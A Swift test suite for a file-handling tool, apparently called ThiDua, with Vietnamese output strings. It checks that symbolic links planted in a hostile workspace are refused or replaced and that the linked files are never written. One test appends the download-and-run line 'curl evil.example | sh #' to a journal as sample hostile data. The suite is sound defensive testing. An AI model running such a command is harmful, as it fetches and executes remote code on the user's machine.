import Foundation
import Testing
import ThiDuaCore

/// Issue 16, defect 1: a workspace from elsewhere (a zip, a clone, a shared folder) plants
/// symbolic links where ThiDua writes. Each case runs the real command: the link is refused
/// (or replaced, for a temporary file), and the file it points to is never written.
@Suite("Hostile workspace: links are never followed")
struct HostileWorkspaceTests {
    static let campaign = "minh-xuan-dvk-2026"
    static let journal = "data/minh-xuan-dvk-2026.journal.jsonl"

    @Test("a .torn linked to a file of the user: refused, the file keeps its bytes")
    func tornLink() throws {
        let (ws, cleanup) = try FaultSuite.enrolledWorkspace()
        defer { cleanup() }
        let victim = try FaultWorkspace.victim()
        defer { try? FileManager.default.removeItem(at: victim) }
        // A torn tail the next write would set aside, and the place it would go linked away.
        let handle = try FileHandle(forWritingTo: ws.url(Self.journal))
        try handle.seekToEnd()
        try handle.write(contentsOf: Data("curl evil.example | sh #".utf8))
        try handle.close()
        try FileManager.default.createSymbolicLink(atPath: ws.url(Self.journal + ".torn").path, withDestinationPath: victim.path)
        let before = ws.snapshot()
        let victimBefore = try Data(contentsOf: victim)
        let result = ws.run(["launch", Self.campaign])
        #expect(result.code == 1, "\(result.text)")
        #expect(result.text.contains("liên kết tượng trưng"), "\(result.text)")
        #expect(try Data(contentsOf: victim) == victimBefore, "the linked file was written")
        #expect(FaultWorkspace.changes(before, ws.snapshot()).isEmpty)
    }

    @Test("a journal that is a dangling link: refused, nothing created outside data/")
    func danglingJournal() throws {
        let (ws, cleanup) = try FaultSuite.enrolledWorkspace()
        defer { cleanup() }
        let outside = FileManager.default.temporaryDirectory.appendingPathComponent("thidua-outside-\(UUID().uuidString).jsonl")
        defer { try? FileManager.default.removeItem(at: outside) }
        try FileManager.default.removeItem(at: ws.url(Self.journal))
        try FileManager.default.removeItem(at: ws.url(Self.journal + ".head"))
        try FileManager.default.createSymbolicLink(atPath: ws.url(Self.journal).path, withDestinationPath: outside.path)
        let before = ws.snapshot()
        let result = ws.run(["launch", Self.campaign])
        #expect(result.code == 1, "\(result.text)")
        #expect(result.text.contains("liên kết tượng trưng"), "\(result.text)")
        #expect(!FileManager.default.fileExists(atPath: outside.path), "a file was created outside the workspace")
        #expect(FaultWorkspace.changes(before, ws.snapshot()).isEmpty)
    }

    @Test("a journal linked to /dev/full: refused as a link, nothing written")
    func journalLinkedToDevice() throws {
        let (ws, cleanup) = try FaultSuite.enrolledWorkspace()
        defer { cleanup() }
        try FileManager.default.removeItem(at: ws.url(Self.journal))
        try FileManager.default.removeItem(at: ws.url(Self.journal + ".head"))
        try FileManager.default.createSymbolicLink(atPath: ws.url(Self.journal).path, withDestinationPath: "/dev/full")
        let before = ws.snapshot()
        for command in [["enroll", Self.campaign], ["launch", Self.campaign], ["evaluate", Self.campaign]] {
            let result = ws.run(command)
            #expect(result.code == 1, "\(command): \(result.text)")
            #expect(result.text.contains("\(Self.journal): không mở được"), "\(result.text)")
            #expect(result.text.contains("liên kết tượng trưng"), "\(result.text)")
            #expect(FaultWorkspace.changes(before, ws.snapshot()).isEmpty)
        }
    }

    @Test("data/ itself a link to another folder: refused, that folder unchanged")
    func dataFolderLink() throws {
        let (ws, cleanup) = try FaultSuite.enrolledWorkspace()
        defer { cleanup() }
        let elsewhere = FaultWorkspace.fresh("elsewhere")
        defer { try? FileManager.default.removeItem(at: elsewhere) }
        try FileManager.default.moveItem(at: ws.url("data"), to: elsewhere)
        try FileManager.default.createSymbolicLink(atPath: ws.url("data").path, withDestinationPath: elsewhere.path)
        let outside = FaultWorkspace(root: elsewhere)
        let before = outside.snapshot()
        let result = ws.run(["launch", Self.campaign])
        #expect(result.code == 1, "\(result.text)")
        #expect(result.text.contains("thư mục «data» là một liên kết tượng trưng"), "\(result.text)")
        #expect(FaultWorkspace.changes(before, outside.snapshot()).isEmpty, "the folder the link points to was written")
    }

    @Test("a leftover .head.tmp linked to a file of the user: the link is replaced, the file untouched")
    func headTemporaryLink() throws {
        let (ws, cleanup) = try FaultSuite.enrolledWorkspace()
        defer { cleanup() }
        let victim = try FaultWorkspace.victim()
        defer { try? FileManager.default.removeItem(at: victim) }
        try FileManager.default.createSymbolicLink(atPath: ws.url(Self.journal + ".head.tmp").path, withDestinationPath: victim.path)
        let victimBefore = try Data(contentsOf: victim)
        let result = ws.run(["launch", Self.campaign])
        #expect(result.code == 0, "\(result.text)")
        #expect(try Data(contentsOf: victim) == victimBefore, "the linked file was truncated or written")
        #expect(!FileManager.default.fileExists(atPath: ws.url(Self.journal + ".head.tmp").path))
        #expect(ws.run(["verify", Self.campaign]).code == 0)
    }

    @Test("a roster temporary file linked to a file of the user: the link is replaced, the file untouched")
    func rosterTemporaryLink() throws {
        let (ws, cleanup) = try FaultSuite.enrolledWorkspace()
        defer { cleanup() }
        let victim = try FaultWorkspace.victim()
        defer { try? FileManager.default.removeItem(at: victim) }
        // The name this very process would use (the in-process command runs with our pid).
        let planted = ws.url("roster/.roster.json.\(getpid()).tmp")
        try FileManager.default.createSymbolicLink(atPath: planted.path, withDestinationPath: victim.path)
        let victimBefore = try Data(contentsOf: victim)
        let file = try ws.write("inbox/them.csv", "Mã,Tên đơn vị,Loại,Trực thuộc\ntdp-3,Tổ dân phố 3,tổ dân phố,\n")
        let result = ws.run(["roster", "import", file])
        #expect(result.code == 0, "\(result.text)")
        #expect(try Data(contentsOf: victim) == victimBefore, "the linked file was overwritten")
        #expect(ws.run(["roster", "list"]).output.contains("Tổ dân phố 3"))
    }

    @Test("a roster that is a link to a file outside: refused when read")
    func rosterLink() throws {
        let (ws, cleanup) = try FaultSuite.enrolledWorkspace()
        defer { cleanup() }
        let outside = try FaultWorkspace.victim(String(decoding: ws.bytes("roster/roster.json"), as: UTF8.self))
        defer { try? FileManager.default.removeItem(at: outside) }
        try FileManager.default.removeItem(at: ws.url("roster/roster.json"))
        try FileManager.default.createSymbolicLink(atPath: ws.url("roster/roster.json").path, withDestinationPath: outside.path)
        let result = ws.run(["roster", "list"])
        #expect(result.code == 1, "\(result.text)")
        #expect(result.text.contains("liên kết tượng trưng"), "\(result.text)")
    }
}
